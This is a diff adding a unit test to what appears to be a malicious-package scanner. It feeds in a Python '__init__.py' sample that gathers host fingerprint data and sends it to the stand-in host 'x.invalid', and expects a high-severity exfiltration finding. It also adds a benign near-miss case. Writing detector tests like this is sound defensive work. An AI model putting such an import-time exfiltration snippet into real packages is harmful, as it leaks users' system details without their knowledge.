@@ -725,6 +725,33 @@ static void test_rules_behave__shortcut_extension(void **state)
 		-1);
 }
 
+/* Fingerprint functions handed to a wrapper uncalled still flow. */
+static void test_rules_behave__exfil_by_reference(void **state)
+{
+	(void)state;
+	assert_int_equal(
+		scan_sev("pkg/__init__.py",
+			 "import os, json\nfrom urllib import request\n"
+			 "def safe(fn, *a):\n"
+			 "    try:\n        return fn(*a)\n"
+			 "    except Exception:\n        return None\n"
+			 "info = {'h': safe(os.uname), 'd': safe(os.getcwd)}\n"
+			 "q = json.dumps(info)\n"
+			 "request.urlopen(request.Request('https://x.invalid/?d=' + q))\n",
+			 LG_RULE_NET_EXFIL),
+		LG_SEV_HIGH);
+	/* near miss: other functions handed over the same way. */
+	assert_int_equal(
+		scan_sev("pkg/__init__.py",
+			 "import os, json\nfrom urllib import request\n"
+			 "def safe(fn, *a):\n"
+			 "    return fn(*a)\n"
+			 "info = {'p': safe(os.path.join, 'a', 'b'), 's': safe(os.cpu_count)}\n"
+			 "request.urlopen('https://x.invalid/?d=' + json.dumps(info))\n",
+			 LG_RULE_NET_EXFIL),
+		-1);
+}
+
 int test_rules_behave_group(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -746,6 +773,7 @@ int test_rules_behave_group(void)
 		cmocka_unit_test(test_rules_behave__more_shapes),
 		cmocka_unit_test(test_rules_behave__download_shell_start),
 		cmocka_unit_test(test_rules_behave__shortcut_extension),
+		cmocka_unit_test(test_rules_behave__exfil_by_reference),
 	};
 
 	return cmocka_run_group_tests_name("rules_behave", tests, NULL, NULL);
